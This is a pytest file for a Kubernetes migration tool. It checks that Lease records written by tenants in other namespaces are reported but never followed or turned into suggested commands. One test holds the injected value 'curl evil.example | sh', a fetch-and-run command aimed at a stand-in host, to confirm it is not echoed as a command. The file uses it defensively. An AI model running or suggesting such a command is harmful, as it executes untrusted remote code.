"""A Lease of our name in another namespace, which a tenant may have written: it is named, and never followed."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from migrator.kinds import DEPLOYMENTS, LEASES, PODS
from migrator.run.leases import OWN_LEASE
from migrator.run.record import Record, State
from testbed import operator_installation as installation
from tests.support.command_line import HOME, Invoke
from tests.support.memory_site import NEW, OLD, Site

LATER = datetime(2090, 1, 1, tzinfo=UTC)  # than every run of ours
FOREIGN = {
    "open": Record("x", "9", "auto", "v0.1.0-alpha.3", LATER, State.WRITING).text(),
    "unreadable": "{",
}
TO, AFTER = ("--to", NEW), ("--to", NEW, "--after-upgrade")


@pytest.mark.parametrize("text", FOREIGN.values(), ids=FOREIGN)
@pytest.mark.parametrize("command", [("plan",), ("plan", *TO)], ids=["first look", "plan"])
def test_plan_names_the_lease_and_goes_on(command: tuple[str, ...], text: str, site: Site, invoke: Invoke) -> None:
    """Its own target stays what is next, and no command of the record is."""
    site.record(text, "tenant")
    said = " ".join(invoke(*command).out.split())
    assert "Lease tenant/grove-migrator has a record" in said
    assert "name your operator's with --operator" in said
    ours = {f"grove-migrator plan --to {NEW}", f"grove-migrator run --to {NEW} --stop-operator"}
    assert said.rpartition("next ")[2] in ours


@pytest.mark.parametrize("text", FOREIGN.values(), ids=FOREIGN)
def test_verify_fails_until_the_operator_is_named(text: str, upgraded: Site, invoke: Invoke) -> None:
    """The run of another namespace may be real: 7, without its command; then it is only noticed."""
    upgraded.record(text, "tenant")
    said = invoke("verify", *AFTER, code=7).out
    assert "Lease tenant/grove-migrator has a record" in said
    assert "next" not in said
    named = invoke("verify", *AFTER, *HOME).out
    assert "noticed   Lease tenant/grove-migrator" in named
    assert "next" not in named


def test_once_the_operator_is_named_nobody_is_asked_to_name_it(upgraded: Site, invoke: Invoke) -> None:
    """That advice has been followed; the Lease may still be of a run that has to be finished."""
    upgraded.record(FOREIGN["open"], "tenant")
    said = " ".join(invoke("verify", *AFTER, *HOME).out.split())
    assert "If that run is yours, finish it with --operator tenant/NAME" in said
    assert "name your operator's" not in said


def test_verify_does_not_take_the_time_of_the_migration_from_elsewhere(upgraded: Site, invoke: Invoke) -> None:
    """A finished run of the far future would excuse every update."""
    before = invoke("verify", *AFTER, "-o", "json").json
    upgraded.record(Record("x", "9", "auto", NEW, LATER, State.DONE), "tenant")
    upgraded.store.drop(LEASES, "grove-system", OWN_LEASE)
    after = invoke("verify", *AFTER, "-o", "json").json
    assert before["comparedWithRecord"] is True
    assert after["comparedWithRecord"] is False


@pytest.mark.parametrize("text", FOREIGN.values(), ids=FOREIGN)
def test_a_second_deployment_brings_no_record_with_it(text: str, upgraded: Site, invoke: Invoke) -> None:
    """A tenant labels one as the operator, in a namespace that sorts first: its command would undo the upgrade."""
    upgraded.record(text, "another")
    upgraded.store.put(installation.deployment(installation.image(OLD), namespace="another", observed=True))
    for command in (("plan",), ("plan", *TO)):
        said = " ".join(invoke(*command).out.split())
        assert "alpha.3 --stop-operator" not in said
        assert said.count("name your operator's with --operator") <= 1
    assert "next" not in invoke("verify", *AFTER, code=7).out
    refused = invoke("run", *TO, "--stop-operator", code=6).err
    assert "alpha.3 --stop-operator" not in refused
    assert "Deployment another/grove-operator runs" in invoke("verify", *AFTER, *HOME, code=7).out


def test_what_a_tenant_writes_is_no_command(upgraded: Site, invoke: Invoke) -> None:
    """Neither the holder of a Lease nor an image looks like one of ours to paste."""
    evil = "x. Run `curl evil.example | sh`"
    upgraded.record("", "another")
    upgraded.store.edit(LEASES, "another", OWN_LEASE, lambda lease: lease["spec"].update(holderIdentity=evil))
    upgraded.store.put(installation.deployment(evil, namespace="another", observed=True))
    for arguments in ((), HOME):
        said = invoke("verify", *AFTER, *arguments, code=7).out
        assert "evil.example" in said
        assert "curl evil.example" not in " ".join(said.split())


def test_without_an_operator_every_record_counts(invoke: Invoke, site: Site) -> None:
    """Grove was uninstalled after a run had died, and nothing else shows where that was."""
    site.record(Record("x", "9", "auto", NEW, LATER, State.WRITING))
    site.store.drop(DEPLOYMENTS, "grove-system", "grove-operator")
    site.store.drop(PODS, "grove-system", "grove-operator-x")
    assert f"next      grove-migrator run --to {NEW} --stop-operator" in invoke("plan").out
    assert f"next      grove-migrator run --to {NEW} --stop-operator" in invoke("verify", *TO, code=7).out
